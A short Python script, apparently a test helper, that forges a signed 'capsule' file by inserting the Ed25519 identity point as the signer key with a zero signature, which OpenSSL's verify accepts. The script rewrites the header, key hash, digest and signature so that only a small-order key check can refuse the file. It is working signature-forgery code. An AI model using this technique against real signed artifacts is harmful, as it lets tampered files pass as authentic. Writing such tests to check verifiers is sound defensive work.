"""Writes a copy of a signed 1.1 capsule "signed" by the identity point, a small-order Ed25519 key:
R = identity and s = 0 verify for every message under it, so the forgery needs no private key and
OpenSSL's verify accepts it. Every other byte is well formed (the header carries the key, the
trailer names it by its SHA-256, the digest matches), so only the key check can refuse it.

Usage: forge_small_order_key.py SIGNED_1_1.capsule OUT.capsule
"""
import hashlib
import struct
import sys

DOMAIN = b"capsule/sign/v1\n"  # format/envelope_format.h kSignatureDomain

src, out = sys.argv[1], sys.argv[2]
data = bytearray(open(src, "rb").read())
header_size = struct.unpack_from("<I", data, 12)[0]
payload_size = struct.unpack_from("<Q", data, 24)[0]
assert header_size == 80, "a 1.1 capsule carrying its signer key"
identity = b"\x01" + b"\x00" * 31
data[48:80] = identity
header = bytes(data[:header_size])
payload = bytes(data[header_size:header_size + payload_size])
t = header_size + payload_size
digest = hashlib.sha256(DOMAIN + header + hashlib.sha256(payload).digest()).digest()
data[t + 8:t + 40] = hashlib.sha256(identity).digest()
data[t + 40:t + 72] = digest
data[t + 72:t + 136] = identity + b"\x00" * 32
open(out, "wb").write(bytes(data))
